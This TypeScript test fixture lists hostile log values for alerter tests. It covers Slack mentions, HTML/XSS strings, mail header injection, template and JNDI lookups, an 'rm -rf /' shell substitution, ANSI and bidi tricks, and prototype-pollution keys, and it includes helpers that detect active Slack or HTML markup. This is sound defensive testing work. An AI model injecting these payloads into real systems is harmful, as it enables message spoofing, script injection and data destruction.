/**
 * Values a log document may carry to break out of an alert's formatting, for any alerter's
 * tests: put each one in a match field (and as a field NAME: keys come from documents too), run
 * the alert, and check the output for its medium shows it as inert text.
 *
 * Every entry says why it is there. Add to it rather than writing a private list.
 */
export interface HostileValue {
  /** Short, unique, usable as a test title. */
  name: string;
  value: string;
  /** What it attacks. */
  why: string;
}

const BIG_SIZE = 100 * 1024;

export const HOSTILE_VALUES: readonly HostileValue[] = [
  { name: 'slack-channel', value: '<!channel>', why: 'Slack special mention: notifies everyone in the channel' },
  { name: 'slack-here', value: '<!here>', why: 'Slack special mention: notifies everyone active' },
  { name: 'slack-everyone', value: '<!everyone>', why: 'Slack special mention: notifies the whole workspace' },
  { name: 'slack-user', value: '<@U123ABC>', why: 'Slack user mention: pings a chosen person' },
  { name: 'slack-subteam', value: '<!subteam^S123|@oncall>', why: 'Slack user-group mention with a label' },
  {
    name: 'slack-link',
    value: '<https://evil.example|click here to re-authenticate>',
    why: 'Slack link whose visible label hides the target',
  },
  {
    name: 'slack-entity',
    value: '&amp;lt;!channel&amp;gt; &lt;b&gt;',
    why: 'pre-escaped entities: must not be decoded into markup by a lazy escape',
  },
  {
    name: 'mrkdwn-format',
    value: '*bold* _italic_ ~strike~ `code` ```block``` >quote',
    why: 'Slack/Markdown emphasis and quoting that restyles the message',
  },
  {
    name: 'markdown-link',
    value: '[click](https://evil.example) ![img](https://evil.example/x.png)',
    why: 'Markdown link and image (Teams, Mattermost, GitHub-like renderers)',
  },
  { name: 'html-script', value: '<script>alert(1)</script>', why: 'HTML script element in HTML mail or a web UI' },
  {
    name: 'html-attr-break',
    value: '"><img src=x onerror=alert(1)>',
    why: 'closes an HTML attribute and injects an element with a handler',
  },
  { name: 'html-single-quote', value: "' onmouseover='alert(1)", why: 'breaks out of a single-quoted HTML attribute' },
  { name: 'html-comment', value: '--><!--', why: 'ends or opens an HTML comment around the rest of the mail' },
  { name: 'html-entity', value: '&lt;script&gt;', why: 'an entity that must stay visible as text, not be decoded' },
  { name: 'javascript-url', value: 'javascript:alert(document.domain)', why: 'script URL if placed in an href' },
  {
    name: 'data-url',
    value: 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    why: 'data URL that is an HTML page if placed in an href',
  },
  { name: 'crlf-header', value: 'x\r\nBcc: victim@example.com', why: 'CR/LF mail header injection (subject, from, reply-to)' },
  { name: 'lf-header', value: 'x\nBcc: victim@example.com\n\nbody', why: 'bare LF header injection and an early end of headers' },
  { name: 'cr-only', value: 'x\rSubject: spoofed', why: 'bare CR, which some MTAs treat as a line end' },
  {
    name: 'unicode-line-sep',
    value: 'a\u2028b\u2029c\u0085d',
    why: 'Unicode line/paragraph separators and NEL: line breaks to some parsers',
  },
  { name: 'format-positional', value: '{0}{1}{}', why: 'Python str.format fields: must not be expanded again' },
  { name: 'format-attr', value: '{0.__class__}{0[__globals__]}', why: 'str.format attribute access used to reach internals' },
  { name: 'format-brace', value: '}}{{', why: 'unbalanced format braces that would make formatting fail' },
  { name: 'jinja-expr', value: '{{7*7}}', why: 'template expression: must print as written, never 49' },
  { name: 'jinja-escape', value: '{{ "".constructor.constructor("return process")() }}', why: 'template sandbox escape attempt' },
  { name: 'jinja-raw', value: '{% raw %}{% endraw %}{% include "/etc/passwd" %}', why: 'template tags: raw blocks and file includes' },
  { name: 'jinja-comment', value: '{# #}{#', why: 'template comment markers that could hide text' },
  { name: 'jndi', value: '${jndi:ldap://x.example/a}', why: 'Log4Shell-style lookup, and ${...} interpolation in general' },
  { name: 'shell', value: '$(id) `id` ; rm -rf / #', why: 'shell substitution if a value reaches a command alerter' },
  { name: 'json-break', value: '"}],"x":"', why: 'closes a JSON string and object to add keys in a webhook payload' },
  { name: 'json-unicode', value: '\\u0022\\u003c', why: 'JSON escape sequences as literal text: must not be decoded' },
  { name: 'backslashes', value: 'C:\\new\\table\\"x\\', why: 'backslashes that a naive escape turns into escapes (\\n, \\t, \\")' },
  { name: 'rison-break', value: "ok',evil:!('x", why: 'closes a rison string in a Kibana URL and adds state' },
  { name: 'rison-multiline', value: 'ok\n,evil:(x', why: 'a bare-looking rison word followed by a newline and structure' },
  { name: 'url-break', value: 'a&_g=(evil)#frag?x=1 %00 %2e%2e/', why: 'query/fragment delimiters and percent escapes in a URL' },
  { name: 'nul', value: 'a\u0000b', why: 'NUL byte: truncates strings in C code, breaks some transports' },
  { name: 'control-chars', value: '\u0001\u0007\u0008\u000b\u000c\u001f\u007f', why: 'C0 controls (bell, backspace, form feed) and DEL' },
  {
    name: 'ansi-clear',
    value: '\u001b[2J\u001b[H\u001b[31mALL CLEAR\u001b[0m',
    why: 'ANSI escapes: clear and recolour a terminal showing stdout alerts',
  },
  {
    name: 'ansi-osc',
    value: '\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007',
    why: 'OSC 8 terminal hyperlink with a hidden target',
  },
  { name: 'bidi-override', value: 'user\u202egnp.exe', why: 'right-to-left override: text displays in a different order than it is' },
  { name: 'zero-width', value: 'ad\u200bmin\u2060\ufeff', why: 'zero-width characters that make different strings look the same' },
  { name: 'homoglyph', value: 'аdmin', why: 'Cyrillic "а" that looks like Latin "a"' },
  {
    name: 'emoji-astral',
    value: '😀👨‍👩‍👧𝕏\ud83d',
    why: 'astral characters, a ZWJ sequence, and a lone surrogate: must not be split or crash encoders',
  },
  {
    name: 'big',
    value: 'A'.repeat(BIG_SIZE - 10) + '<!channel>',
    why: '100 kB value: size limits, truncation that splits an escape, slow paths',
  },
  { name: 'proto-key', value: '__proto__', why: 'as a field name: prototype pollution in object handling' },
  { name: 'constructor-key', value: 'constructor', why: 'as a field name: reaches constructors through lookups' },
  { name: 'empty', value: '', why: 'empty string: edge of every parser' },
];

function around(text: string, index: number): string {
  return JSON.stringify(text.slice(Math.max(0, index - 20), index + 20));
}

/**
 * What Slack (mrkdwn) would act on in `text`: "<" or ">" (mentions, links) or an "&" that does
 * not start &amp; &lt; &gt;. Empty when the text is inert. For output whose own template has
 * none of these.
 */
export function slackActiveMarkup(text: string): string[] {
  const found: string[] = [];
  for (const m of text.matchAll(/[<>]|&(?!amp;|lt;|gt;)/g)) found.push(around(text, m.index));
  return found;
}

/**
 * What an HTML parser would act on in `text` as element content or a quoted attribute value:
 * < > " ' or an "&" that does not start an entity. Empty when the text is inert. For output
 * whose own template has none of these.
 */
export function htmlActiveMarkup(text: string): string[] {
  const found: string[] = [];
  for (const m of text.matchAll(/[<>"']|&(?!(?:amp|lt|gt|quot|#39|#34|#x27);)/g)) found.push(around(text, m.index));
  return found;
}
